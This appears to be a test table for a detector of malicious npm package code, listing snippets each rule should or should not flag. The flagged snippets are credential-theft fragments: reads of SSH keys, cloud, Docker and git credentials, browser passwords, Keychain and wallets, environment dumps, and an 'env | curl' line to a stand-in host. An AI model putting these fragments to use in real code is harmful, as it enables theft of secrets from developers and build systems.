// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

testTable({
  'credential-path': {
    hits: [
      [
        "of a cluster's",
        "fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token')",
        'a service account of kubernetes',
      ],
      [
        'of any program',
        "path.join(appData, app, 'Local Storage', 'leveldb')",
        'sessions that other programs keep',
      ],
      ['what macOS keeps', "exec('security find-generic-password -wa Chrome')", 'Keychain'],
      ["Discord's", "appData + '\\\\discord\\\\Local Storage\\\\leveldb'", 'wallets'],
      ['a key of SSH', "fs.readFileSync(home + '/.ssh/id_rsa')", 'SSH keys'],
      ['joined', "path.join(os.homedir(), '.ssh', 'id_ed25519')", 'SSH keys'],
      ['of Windows', "home + '\\\\.aws\\\\credentials'", '~/.aws/credentials'],
      ['joined of AWS', 'join(homedir(), ".aws", "credentials")', '~/.aws/credentials'],
      ['of git', "'~/.git-credentials'", '~/.git-credentials'],
      ['of Kubernetes', '`${home}/.kube/config`', '~/.kube/config'],
      ['of Docker', "join(home, '.docker', 'config.json')", '~/.docker/config.json'],
      ['of a browser', "join(profile, 'Login Data')", 'passwords of browsers'],
      ['of a wallet', "join(home, '.config/solana/id.json')", 'wallets'],
      ["MetaMask's folder", "'nkbihfbeogaeaoehlefnkodbefgpgknn'", 'wallets'],
      ['of Google', "'.config/gcloud/application_default_credentials.json'", 'gcloud credentials'],
    ],
    misses: [
      ['in a comment', '// ~/.ssh/id_rsa\nf()'],
      ['a page', "'/docs/ssh/id'"],
      ['login data of a form', 'const loginData = { user }'],
      ['the folder of configurations', "join(home, '.config', name)"],
    ],
  },
  'npm-credentials': {
    hits: [
      ['the file', "readFileSync(join(home, '.npmrc'))", '~/.npmrc'],
      ['the field', "line.includes('_authToken')", '_authToken'],
      ['the variable', 'process.env.NPM_TOKEN', 'NPM_TOKEN'],
      ['the variable of workflows', 'process.env.NODE_AUTH_TOKEN', 'NODE_AUTH_TOKEN'],
    ],
    misses: [['another file', "'.npmrcs'"]],
  },
  'token-pattern': {
    hits: [
      ["antv's", '/gh[op]_[A-Za-z0-9]{36}/g'],
      ["npm's", '/npm_[A-Za-z0-9]{36,}/'],
      ['with classes', '/npm_\\w{36}/'],
      ["AWS's", '/AKIA[0-9A-Z]{16}/'],
      ['alternatives', '/(?:ghp|gho)_[a-z]/i'],
    ],
    misses: [
      ["npm's variables", "'npm_config_cache'"],
      ['arrays', 'high[a] = gh[b]'],
    ],
  },
  'environment-dump': {
    hits: [
      ['of a report', 'JSON.stringify(process.report.getReport().environmentVariables)'],
      ['copied in what is sent', 'JSON.stringify({ t: Date.now(), v: Object.assign({}, process.env) })'],
      ['spread in what is in it', 'JSON.stringify({ a: { b: 1 }, v: { ...process.env } })'],
      ['as pairs', 'send(JSON.stringify(Object.entries(process.env)))'],
      [
        'as pairs that stay some',
        'new URLSearchParams(Object.fromEntries(Object.entries(process.env).slice(1)))',
      ],
      ['all of it', 'post(JSON.stringify(process.env))'],
      ['by lower case names', 'Object.entries(process.env).filter(([k]) => /token|secret|key/i.test(k))'],
      ["a client's body", 'axios.post(url, { user: name, env: process.env })'],
      ['with indentation', 'JSON.stringify(process.env, null, 2)'],
      ['with other things', 'JSON.stringify({ host: os.hostname(), env: process.env })'],
      ['spread', 'JSON.stringify({...process.env})'],
      ['as a body', 'axios.post(u, { data: process.env })'],
      ['a copy', 'const all = { ...process.env };\nsend(JSON.stringify(all));'],
      ['taken out of process', 'const { env } = process; send(JSON.stringify(env))'],
      ['by its names', 'Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k))'],
      ['in a command', "exec('env | curl -d @- https://a.example')"],
    ],
    misses: [
      ['one of them', 'JSON.stringify(process.env.HOME)'],
      ['for a child', 'spawn(a, { env: process.env })'],
      ['for a child, spread', 'spawn(a, { env: { ...process.env, B: 1 } })'],
      ['a copy for a child', 'const env = { ...process.env };\nspawn(a, { env }); JSON.stringify(b)'],
      ['in a comment', '// JSON.stringify(process.env)\nf()'],
      ['a name of a bundler', "{ 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV) }"],
    ],
  },
  'token-route': {
    hits: [
      ['who it is', "get(registry + '/-/whoami')", '/-/whoami'],
      ['its tokens', 'fetch(`${registry}/-/npm/v1/tokens`)', '/-/npm/v1/tokens'],
    ],
    misses: [['another route', "get('/-/ping')"]],
  },
  'repository-route': {
    hits: [
      ["Shai-Hulud's", "fetch('https://api.github.com/user/repos', { method: 'POST' })", '/user/repos'],
      ['a runner', '`/repos/${r}/actions/runners/registration-token`', 'actions/runners/registration-token'],
    ],
    misses: [['releases', "'https://api.github.com/repos/a/b/releases'"]],
  },
  'host-facts': {
    hits: [
      ['its name', 'const a = os.hostname()', 'hostname'],
      ['its user', "require('os').userInfo().username", 'userInfo'],
      ['a command', "execSync('whoami')", 'whoami'],
      ['its address from outside', "get('https://api.ipify.org')", 'api.ipify.org'],
    ],
    misses: [
      ["an address's name", 'url.hostname'],
      ['its kind', 'os.platform()'],
    ],
  },
  'secret-scanner': {
    hits: [["Shai-Hulud's", "spawn('trufflehog', ['filesystem', '/'])", 'trufflehog']],
    misses: [['in a comment', '// gitleaks:allow\nf()']],
  },
  'metadata-service': {
    hits: [
      ["AWS's", "get('http://169.254.169.254/latest/meta-data/')", '169.254.169.254'],
      ["Google's", "'metadata.google.internal'", 'metadata.google.internal'],
    ],
    misses: [['of this link', "'169.254.1.1'"]],
  },
  'workflow-file': {
    hits: [
      ['written', "fs.writeFileSync('.github/workflows/a.yml', body)"],
      ['joined', "const p = path.join(r, '.github', 'workflows', 'a.yml');\nfs.writeFileSync(p, b)"],
      [
        'by its service',
        "octokit.request('PUT /repos/{o}/{r}/contents/{p}', { path: '.github/workflows/a.yaml' })",
      ],
    ],
    misses: [
      ['looked for', "if (existsSync('.github/workflows/ci.yml')) a()"],
      ['a page', "'https://a.example/b/.github/CONTRIBUTING.md'; writeFileSync(a, b)"],
    ],
  },
});
